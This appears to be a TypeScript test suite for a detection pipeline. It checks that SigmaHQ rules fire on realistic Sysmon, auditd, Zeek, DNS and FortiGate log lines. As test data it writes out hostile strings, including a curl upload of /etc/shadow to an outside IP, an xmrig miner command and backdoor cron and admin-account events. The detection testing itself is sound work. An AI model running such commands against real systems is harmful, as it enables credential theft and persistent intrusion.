import fs from 'node:fs';
import path from 'node:path';
import YAML from 'yaml';
import { compileValidators } from '../../../schemas/validators';
import { applyProfiles, loadMappingProfiles } from '../../../pipeline/detect/mapping';
import { loadRuleText, type RuleProblem } from '../../../pipeline/detect/load';
import { eventFromLine } from '../../../pipeline/detect/sample-event';
import { shippedDecoderFields } from '../../../pipeline/decoders/shipped';
import { eventFieldSet } from '../../../pipeline/detect/mapping/event-fields';
import { sharedData } from '../../support/shared-data';

/**
 * Every mapping profile marked `telemetry: live` is proven here: a SigmaHQ rule of its logsource,
 * loaded through the project's loader and mapped by rules/mappings, fires on the event the worker
 * builds from a realistic raw line (eventFromLine: syslog header parse + the shipped decoders), and
 * does not fire on a near miss. And every target a live profile names is a field some shipped
 * decoder is seen to emit (or an event-contract field), so "live" is never a promise on paper.
 */
const SIGMAHQ = sharedData('sigmahq');
const PROFILES = path.join(__dirname, '..', '..', '..', 'rules', 'mappings');
const validate = compileValidators().rule;
const { profiles, problems: profileProblems } = loadMappingProfiles(PROFILES);
const NOW = new Date('2026-12-03T12:00:00Z');

function sigma(rel: string): { matches(e: unknown): boolean; profiles: string[] } {
  const file = path.join(SIGMAHQ, rel);
  const problems: RuleProblem[] = [];
  const [original] = loadRuleText(fs.readFileSync(file, 'utf8'), file, validate, problems);
  expect(problems).toEqual([]);
  const mapped = applyProfiles(original!.rule.source, profiles);
  const [compiled] = loadRuleText(YAML.stringify(mapped.rule), file, validate, problems);
  expect(problems).toEqual([]);
  return { matches: (e) => compiled!.rule.matches(e as never), profiles: mapped.profiles.map((p) => p.name) };
}
const ev = (line: string): unknown => eventFromLine(line, NOW);

// Sysmon for Linux event XML as Sysmon writes it to syslog (TAG sysmon).
const SYSMON_SYSTEM = (id: number): string =>
  `<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-12-03T11:59:59.245458000Z"/><EventRecordID>79</EventRecordID><Correlation/><Execution ProcessID="4536" ThreadID="4536"/><Channel>Linux-Sysmon/Operational</Channel><Computer>ubuntu-dev</Computer><Security UserId="0"/></System>`;
const sysmon = (id: number, data: Record<string, string>): string =>
  `<14>Dec  3 11:59:59 ubuntu-dev sysmon: <Event>${SYSMON_SYSTEM(id)}<EventData>${Object.entries(data).map(([k, v]) => `<Data Name="${k}">${v}</Data>`).join('')}</EventData></Event>`;
const curl = (cmd: string): string =>
  sysmon(1, { RuleName: '-', UtcTime: '2026-12-03 11:59:59.250', ProcessGuid: '{4e4a3bd2-77f5-616d-c1a8-8d2fa3550000}', ProcessId: '4562', Image: '/usr/bin/curl', FileVersion: '-', Description: '-', Product: '-', Company: '-', OriginalFileName: '-', CommandLine: cmd, CurrentDirectory: '/home/alice', User: 'alice', LogonGuid: '{4e4a3bd2-0000-0000-e803-000000000000}', LogonId: '1000', TerminalSessionId: '3', IntegrityLevel: 'no level', Hashes: '-', ParentProcessGuid: '{4e4a3bd2-77e8-616d-a59c-4a6ac3550000}', ParentProcessId: '4410', ParentImage: '/usr/bin/bash', ParentCommandLine: '-bash', ParentUser: 'alice' });
const fileCreate = (target: string): string =>
  sysmon(11, { RuleName: '-', UtcTime: '2026-12-03 11:59:59.104', ProcessGuid: '{4e4a3bd2-7a06-616d-8d1b-b2c4b4550000}', ProcessId: '4630', Image: '/usr/bin/tee', TargetFilename: target, CreationUtcTime: '2026-12-03 11:59:59.104', User: 'root' });
const connect = (hostname: string, ip: string): string =>
  sysmon(3, { RuleName: '-', UtcTime: '2026-12-03 11:59:59.815', ProcessGuid: '{4e4a3bd2-79c2-616d-1d2e-c4c4b7550000}', ProcessId: '4611', Image: '/usr/local/bin/ngrok', User: 'bob', Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: '10.0.2.15', SourceHostname: '-', SourcePort: '50112', SourcePortName: '-', DestinationIsIpv6: 'false', DestinationIp: ip, DestinationHostname: hostname, DestinationPort: '443', DestinationPortName: 'https' });

const audit = (record: string): string => `<85>Dec  3 11:59:59 web1 audispd: ${record}`;
const zeek = (log: string, json: object): string => `<134>Dec  3 11:59:59 sensor1 zeek_${log}: ${JSON.stringify(json)}`;
const tuple = { 'id.orig_h': '10.20.30.40', 'id.orig_p': 49810, 'id.resp_h': '10.20.30.2' };

describe('live mapping profiles are proven by SigmaHQ rules firing on realistic events', () => {
  it('the profiles load', () => {
    expect(profileProblems).toEqual([]);
  });

  it('every target of a live profile is a field the pipeline is seen to produce', () => {
    const events = eventFieldSet(undefined, shippedDecoderFields());
    const missing: string[] = [];
    for (const p of profiles.filter((x) => x.telemetry === 'live')) {
      for (const [from, to] of Object.entries(p.fields)) {
        for (const t of typeof to === 'string' ? [to] : to) if (!events.has(t)) missing.push(`${p.name}: ${from} → ${t}`);
      }
    }
    expect(missing).toEqual([]);
  });

  describe('linux-sysmon.yml (Sysmon for Linux decoder)', () => {
    it('process_creation: curl file upload', () => {
      const rule = sigma('linux/process_creation/proc_creation_lnx_susp_curl_fileupload.yml');
      expect(rule.profiles).toContain('linux-process-creation');
      expect(rule.matches(ev(curl('curl --upload-file /etc/shadow https://198.51.100.7/drop')))).toBe(true);
      expect(rule.matches(ev(curl('curl -s -o /tmp/x.sh https://198.51.100.7/x.sh')))).toBe(false);
      expect(rule.matches(ev(curl('curl --upload-file /tmp/report http://localhost:8080/')))).toBe(false);
    });

    it('file_event: a file created in /etc/cron.d', () => {
      const rule = sigma('linux/file_event/file_event_lnx_susp_cron_file_created.yml');
      expect(rule.profiles).toContain('linux-file-event');
      expect(rule.matches(ev(fileCreate('/etc/cron.d/backdoor')))).toBe(true);
      expect(rule.matches(ev(fileCreate('/etc/cron.daily/apt')))).toBe(false);
      expect(rule.matches(ev(fileCreate('/tmp/cron.d')))).toBe(false);
    });

    it('network_connection: ngrok tunnel', () => {
      const rule = sigma('linux/network_connection/net_connection_lnx_ngrok_tunnel.yml');
      expect(rule.profiles).toContain('linux-network-connection');
      expect(rule.matches(ev(connect('tunnel.eu.ngrok.com', '3.125.102.39')))).toBe(true);
      expect(rule.matches(ev(connect('api.github.com', '140.82.121.6')))).toBe(false);
    });
  });

  describe('linux-auditd.yml (auditd decoder)', () => {
    it('SERVICE_STOP of the firewall unit', () => {
      const rule = sigma('linux/auditd/service_stop/lnx_auditd_disable_system_firewall.yml');
      expect(rule.profiles).toContain('linux-auditd');
      const stop = (unit: string): string => audit(`type=SERVICE_STOP msg=audit(1764763199.123:312): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:init_t:s0 msg='unit=${unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`);
      expect(rule.matches(ev(stop('firewalld')))).toBe(true);
      expect(rule.matches(ev(stop('nginx')))).toBe(false);
    });

    it('EXECVE arguments of a coin miner', () => {
      const rule = sigma('linux/auditd/execve/lnx_auditd_coinminer.yml');
      expect(rule.matches(ev(audit('type=EXECVE msg=audit(1764763199.456:313): argc=5 a0="./xmrig" a1="-o" a2="pool.example.net:3333" a3="--cpu-priority" a4="5"')))).toBe(true);
      expect(rule.matches(ev(audit('type=EXECVE msg=audit(1764763199.457:314): argc=3 a0="nice" a1="-n" a2="5"')))).toBe(false);
    });

    it('a PATH record naming /etc/ld.so.preload, inside a multi-record event on one line', () => {
      const rule = sigma('linux/auditd/path/lnx_auditd_ld_so_preload_mod.yml');
      const line = (name: string): string => audit(`type=SYSCALL msg=audit(1764763199.500:400): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6 items=2 ppid=900 pid=901 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="tee" exe="/usr/bin/tee" key="preload" type=CWD msg=audit(1764763199.500:400): cwd="/root" type=PATH msg=audit(1764763199.500:400): item=0 name="/etc/" inode=2 dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT type=PATH msg=audit(1764763199.500:400): item=1 name="${name}" inode=99 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE`);
      expect(rule.matches(ev(line('/etc/ld.so.preload')))).toBe(true);
      expect(rule.matches(ev(line('/etc/ld.so.conf')))).toBe(false);
    });
  });

  describe('zeek.yml (Zeek decoder)', () => {
    it('kerberos: RC4 service ticket', () => {
      const rule = sigma('network/zeek/zeek_susp_kerberos_rc4.yml');
      expect(rule.profiles).toContain('zeek-kerberos');
      const krb = (cipher: string, service: string): string => zeek('kerberos', { ts: 1764763199.2, uid: 'CTZ8Xc2ZtR9Ml3Xg1', ...tuple, 'id.resp_p': 88, request_type: 'TGS', client: 'alice/CORP.EXAMPLE', service, success: true, cipher });
      expect(rule.matches(ev(krb('rc4-hmac', 'MSSQLSvc/db01.corp.example:1433')))).toBe(true);
      expect(rule.matches(ev(krb('aes256-cts-hmac-sha1-96', 'MSSQLSvc/db01.corp.example:1433')))).toBe(false);
      expect(rule.matches(ev(krb('rc4-hmac', '$DC01')))).toBe(false);
    });

    it('smb_files: spoolss over IPC$', () => {
      const rule = sigma('network/zeek/zeek_dce_rpc_smb_spoolss_named_pipe.yml');
      const smb = (name: string): string => zeek('smb_files', { ts: 1764763199.9, uid: 'C0Z2qN2V3bu2yPKVd', ...tuple, 'id.resp_p': 445, fuid: 'FhDSkc1dZjAs1u7Ka8', action: 'SMB::FILE_OPEN', path: '\\\\DC01\\IPC$', name, size: 0 });
      expect(rule.matches(ev(smb('spoolss')))).toBe(true);
      expect(rule.matches(ev(smb('srvsvc')))).toBe(false);
    });

    it('dns: mining pool query, not when Zeek marks it rejected', () => {
      const rule = sigma('network/zeek/zeek_dns_mining_pools.yml');
      const dns = (query: string, rejected: boolean): string => zeek('dns', { ts: 1764763199.1, uid: 'CAcJw21BbVedgFnYH3', ...tuple, 'id.resp_p': 53, proto: 'udp', trans_id: 1, query, qclass: 1, qclass_name: 'C_INTERNET', qtype: 1, qtype_name: 'A', rcode: 0, rcode_name: 'NOERROR', rejected });
      expect(rule.matches(ev(dns('pool.supportxmr.com', false)))).toBe(true);
      expect(rule.matches(ev(dns('www.example.com', false)))).toBe(false);
      expect(rule.matches(ev(dns('pool.supportxmr.com', true)))).toBe(false);
    });
  });

  describe('dns.yml (BIND / Unbound / dnsmasq decoders)', () => {
    const rule = (): ReturnType<typeof sigma> => sigma('network/dns/net_dns_susp_telegram_api.yml');
    it('BIND query log', () => {
      expect(rule().profiles).toContain('dns');
      const bind = (name: string): string => `<30>Dec  3 11:59:59 ns1 named[811]: client @0x7f2b1c0a9168 10.0.0.5#53211 (${name}): query: ${name} IN A +E(0)K (10.0.0.1)`;
      expect(rule().matches(ev(bind('api.telegram.org')))).toBe(true);
      expect(rule().matches(ev(bind('web.telegram.org')))).toBe(false);
    });
    it('dnsmasq and Unbound query logs', () => {
      expect(rule().matches(ev('<30>Dec  3 11:59:59 gw dnsmasq[511]: query[A] api.telegram.org from 10.0.0.9'))).toBe(true);
      expect(rule().matches(ev('<30>Dec  3 11:59:59 res unbound: [2541:0] info: 10.0.0.9 api.telegram.org. A IN'))).toBe(true);
      expect(rule().matches(ev('<30>Dec  3 11:59:59 res unbound: [2541:0] info: 10.0.0.9 telegram.org. A IN'))).toBe(false);
    });
    it('base64 in a query name', () => {
      const b64 = sigma('network/dns/net_dns_susp_b64_queries.yml');
      expect(b64.matches(ev('<30>Dec  3 11:59:59 gw dnsmasq[511]: query[TXT] aGVsbG8gd29ybGQ==.tunnel.example from 10.0.0.9'))).toBe(true);
      expect(b64.matches(ev('<30>Dec  3 11:59:59 gw dnsmasq[511]: query[TXT] www.example.com from 10.0.0.9'))).toBe(false);
    });
  });

  describe('firewall.yml, generic firewall profile (firewall decoders under decoders/network/)', () => {
    it('cleartext protocol allowed through a FortiGate', () => {
      const rule = sigma('network/firewall/net_firewall_cleartext_protocols.yml');
      expect(rule.profiles).toContain('firewall');
      const traffic = (dstport: number, action: string): string =>
        `<189>date=2026-12-03 time=11:59:59 devname="FGT1" devid="FGT60E0000000001" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.1.100.22 srcport=50522 srcintf="port12" dstip=203.0.113.80 dstport=${dstport} dstintf="port11" proto=6 service="TCP" action="${action}" policyid=1`;
      expect(rule.matches(ev(traffic(21, 'accept')))).toBe(true);
      expect(rule.matches(ev(traffic(443, 'accept')))).toBe(false);
      expect(rule.matches(ev(traffic(21, 'deny')))).toBe(false);
    });
  });

  describe('firewall.yml, fortigate profile (FortiGate decoder)', () => {
    it('a new administrator account', () => {
      const rule = sigma('network/fortinet/fortigate/fortinet_fortigate_new_admin_account_created.yml');
      expect(rule.profiles).toContain('fortigate');
      const cfg = (action: string, cfgpath: string): string =>
        `<189>date=2026-12-03 time=11:59:59 devname="FGT1" devid="FGT60E0000000001" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="GUI(10.0.0.8)" action=${action} cfgtid=2162752 cfgpath="${cfgpath}" cfgobj="backdoor" cfgattr="accprofile[super_admin]" msg="${action} ${cfgpath} backdoor"`;
      expect(rule.matches(ev(cfg('Add', 'system.admin')))).toBe(true);
      expect(rule.matches(ev(cfg('Edit', 'system.admin')))).toBe(false);
      expect(rule.matches(ev(cfg('Add', 'firewall.address')))).toBe(false);
    });
  });

  describe('linux.yml keyword rules on the Linux decoders (the message is kept as is)', () => {
    it('privileged user creation on a useradd line', () => {
      const rule = sigma('linux/builtin/lnx_privileged_user_creation.yml');
      expect(rule.matches(ev('<86>Dec 21 17:13:54 testserver useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash'))).toBe(true);
      expect(rule.matches(ev('<86>Dec 21 17:24:40 testserver useradd[1337]: new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash'))).toBe(false);
    });
    it('crontab REPLACE from the cron service only', () => {
      const rule = sigma('linux/builtin/cron/lnx_cron_crontab_file_modification.yml');
      expect(rule.matches(ev('<78>Dec  3 11:59:59 web1 crontab[4242]: (www-data) REPLACE (www-data)'))).toBe(true);
      expect(rule.matches(ev('<78>Dec  3 11:59:59 web1 myapp[42]: (www-data) REPLACE (www-data)'))).toBe(false);
    });
  });
});
